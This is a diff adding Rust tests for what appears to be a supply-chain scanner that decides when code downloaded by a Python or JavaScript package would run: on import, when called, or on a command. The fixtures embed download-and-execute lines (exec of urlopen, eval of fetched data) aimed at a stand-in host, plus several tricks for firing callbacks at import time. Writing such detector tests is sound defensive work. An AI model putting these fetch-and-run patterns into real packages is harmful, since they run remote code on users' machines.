@@ -1,0 +1,238 @@
+use crate::flow::analyse;
+use crate::package::Package;
+use crate::unpack::{Content, Entry, Kind, Tree};
+use customs_model::{SinkKind, SourceKind, Zone};
+
+fn file(path: &str, text: &str) -> Entry {
+    Entry {
+        path: path.to_owned(),
+        content: Content::Whole(text.as_bytes().into()),
+        length: text.len() as u64,
+        kind: Kind::Text,
+        executable: false,
+    }
+}
+
+fn runs(entries: Vec<Entry>) -> Zone {
+    let found = analyse(&Package::new(&Tree {
+        entries,
+        ..Tree::default()
+    }));
+    let zones = found
+        .flows
+        .iter()
+        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
+        .map(|flow| flow.zone);
+    zones.max().unwrap_or(Zone::Never)
+}
+
+/// When what a module hands over runs; `go` runs what it downloads.
+fn python(code: &str) -> Zone {
+    let code = format!(
+        "import atexit, threading\nimport urllib.request\n\
+         def go():\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n{code}"
+    );
+    runs(vec![
+        file("a/__init__.py", &code),
+        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+    ])
+}
+
+/// A class that keeps what it gets, with more lines in its constructor.
+fn option(more: &str) -> String {
+    format!(
+        "class Option:\n    def __init__(self, *names, callback=None):\n        \
+         self.callback = callback\n{more}"
+    )
+}
+
+const MADE: &str = "made = Option('--go', callback=go)\n";
+
+#[test]
+fn what_a_class_of_the_package_keeps_in_a_field_waits() {
+    assert_eq!(python(&format!("{}{MADE}", option(""))), Zone::Called);
+    let below = format!(
+        "{}class Flag(Option):\n    pass\nFlag(callback=go)\n",
+        option("")
+    );
+    assert_eq!(python(&below), Zone::Called);
+    let above = "\
+class Flag(Option):
+    def __init__(self, callback=None):
+        super().__init__('--flag', callback=callback)
+Flag(go)
+";
+    assert_eq!(python(&format!("{}{above}", option(""))), Zone::Called);
+    let thin = "\
+def flag(callback=None):
+    return Option('--flag', callback=callback)
+flag(callback=go)
+";
+    assert_eq!(python(&format!("{}{thin}", option(""))), Zone::Called);
+    let typed = format!(
+        "import typing\n{}X = typing.Annotated[bool, {}]\n",
+        option(""),
+        MADE.trim_start_matches("made = ").trim_end()
+    );
+    assert_eq!(python(&typed), Zone::Called);
+}
+
+#[test]
+fn what_tools_for_command_lines_get_waits_for_its_command() {
+    let own = "import click\nclass Flag(click.Option):\n    pass\nFlag(['--go'], callback=go)\n";
+    assert_eq!(python(own), Zone::Called);
+    assert_eq!(
+        python("import typer\ntyper.Option(None, callback=go)\n"),
+        Zone::Command
+    );
+}
+
+#[test]
+fn what_is_handed_on_with_all_other_settings_waits_where_it_ends() {
+    let flag = |body: &str| {
+        format!(
+            "import click\nclass Flag(click.Option):\n    def __init__(self, names, *, help=None, **more):\n{body}Flag(['--go'], callback=go)\n"
+        )
+    };
+    let only = "        self.help = help\n        super().__init__(names, **more)\n";
+    assert_eq!(python(&flag(only)), Zone::Called);
+    for called in [
+        "        more['callback']()\n        super().__init__(names, **more)\n",
+        "        [f() for f in more.values()]\n",
+        "        print(names, **more)\n",
+        "        locals()['more']['callback']()\n        super().__init__(names, **more)\n",
+    ] {
+        assert_eq!(python(&flag(called)), Zone::Import, "{called}");
+    }
+}
+
+#[test]
+fn a_constructor_that_may_call_what_it_gets_does() {
+    for more in [
+        "        callback()\n",
+        "        self.callback()\n",
+        "        if callback: callback()\n",
+        "        run = callback\n        run()\n",
+        "        threading.Thread(target=callback).start()\n",
+        "        threading.Timer(1, self.callback).start()\n",
+        "        atexit.register(callback)\n",
+        "        [f() for f in [callback]]\n",
+        "        (lambda: callback())()\n",
+        "        locals()['callback']()\n",
+        "        self.run()\n    def run(self):\n        self.callback()\n",
+        "    @property\n    def callback(self):\n        return 1\n    @callback.setter\n    \
+         def callback(self, value):\n        value()\n",
+        "    def __setattr__(self, name, value):\n        value()\n",
+    ] {
+        let code = format!("{}{MADE}", option(more));
+        assert_eq!(python(&code), Zone::Import, "{more}");
+    }
+}
+
+#[test]
+fn what_is_kept_runs_when_something_that_runs_reads_the_field() {
+    for last in [
+        "made.callback()",
+        "f = made.callback\nf()",
+        "[each.callback() for each in [made, made]]",
+        "for each in (made, made):\n    each.callback()",
+        "threading.Thread(target=made.callback).start()",
+        "atexit.register(made.callback)",
+        "def all(given):\n    given.callback()\nall(made)",
+    ] {
+        let code = format!("{}{MADE}{last}\n", option(""));
+        assert_eq!(python(&code), Zone::Import, "{last}");
+    }
+}
+
+#[test]
+fn a_field_that_is_only_asked_about_runs_nothing() {
+    let code = format!(
+        "{}{MADE}if made.callback is not None:\n    print('there')\n",
+        option("")
+    );
+    assert_eq!(python(&code), Zone::Called);
+}
+
+#[test]
+fn a_function_around_what_is_kept_runs_it_when_it_runs_itself() {
+    let around = "\
+def around(callback, first=None):
+    def call(value):
+        return callback(value)
+    return call
+";
+    let code = format!("{}{MADE}{around}", option(""));
+    assert_eq!(
+        python(&format!("{code}x = around(made.callback)\n")),
+        Zone::Called
+    );
+    assert_eq!(python(&format!("{code}build(made)(1)\n")), Zone::Import);
+}
+
+#[test]
+fn what_a_decorator_puts_into_a_list_or_table_waits() {
+    for keeper in [
+        "hooks = []\ndef start(f):\n    hooks.append(f)\nstart(go)\n",
+        "hooks = {}\ndef start(name, f):\n    hooks[name] = f\nstart('a', go)\n",
+        "hooks = dict()\ndef start(name, f):\n    hooks[name] = f\nstart('a', f=go)\n",
+    ] {
+        assert_eq!(python(keeper), Zone::Called, "{keeper}");
+        for last in [
+            "for each in hooks:\n    each()\n",
+            "[each() for each in hooks.values()]\n",
+            "def all(given):\n    for each in given:\n        each()\nall(hooks)\n",
+        ] {
+            assert_eq!(python(&format!("{keeper}{last}")), Zone::Import, "{last}");
+        }
+    }
+}
+
+#[test]
+fn a_keeper_that_is_something_else_than_it_looks_keeps_nothing() {
+    for code in [
+        // A list of its own.
+        "class Now(list):\n    def append(self, f):\n        f()\nhooks = Now()\n\
+         def start(f):\n    hooks.append(f)\nstart(go)\n",
+        // Something stands above it.
+        "def now(f):\n    return lambda g: g()\n@now\ndef start(f):\n    pass\nstart(go)\n",
+        // The one that makes its objects.
+        "class Maker(type):\n    def __call__(cls, f):\n        f()\n\
+         class Option(metaclass=Maker):\n    def __init__(self, f):\n        self.f = f\nOption(go)\n",
+        "class Option:\n    def __new__(cls, f):\n        f()\n    \
+         def __init__(self, f):\n        self.f = f\nOption(go)\n",
+        // What is counted is something else.
+        "def start(f, g=None):\n    f()\nstart(*[go], go)\n",
+        "class Maker(type):\n    def __call__(cls, f):\n        f()\n\
+         class Base(metaclass=Maker):\n    pass\n\
+         class Option(Base):\n    def __init__(self, f):\n        self.f = f\nOption(go)\n",
+        "def start(*f, g=None):\n    f[0]()\nstart(go)\n",
+        "def same(f):\n    return f\n\
+         def start(f):\n    g = same(f)\n    g()\nstart(go)\n",
+        "def start(f):\n    yield f\n[each() for each in start(go)]\n",
+    ] {
+        assert_eq!(python(code), Zone::Import, "{code}");
+    }
+}
+
+#[test]
+fn a_class_of_javascript_that_keeps_a_function_waits_as_well() {
+    let module = |last: &str| {
+        let code = format!(
+            "const {{ get }} = require('https');\n\
+             const go = () => get('https://a.invalid/b', (r) => r.on('data', (d) => eval(String(d))));\n\
+             class Option {{ constructor(name, call) {{ this.run = call; }} }}\n\
+             const made = new Option('go', go);\n{last}\nmodule.exports = {{ made }};\n"
+        );
+        runs(vec![
+            file(
+                "package/package.json",
+                r#"{"name":"a","version":"1.0.0","main":"index.js"}"#,
+            ),
+            file("package/index.js", &code),
+        ])
+    };
+    assert_eq!(module(""), Zone::Called);
+    assert_eq!(module("made.run();"), Zone::Import);
+    assert_eq!(module("setTimeout(made.run, 1);"), Zone::Import);
+}
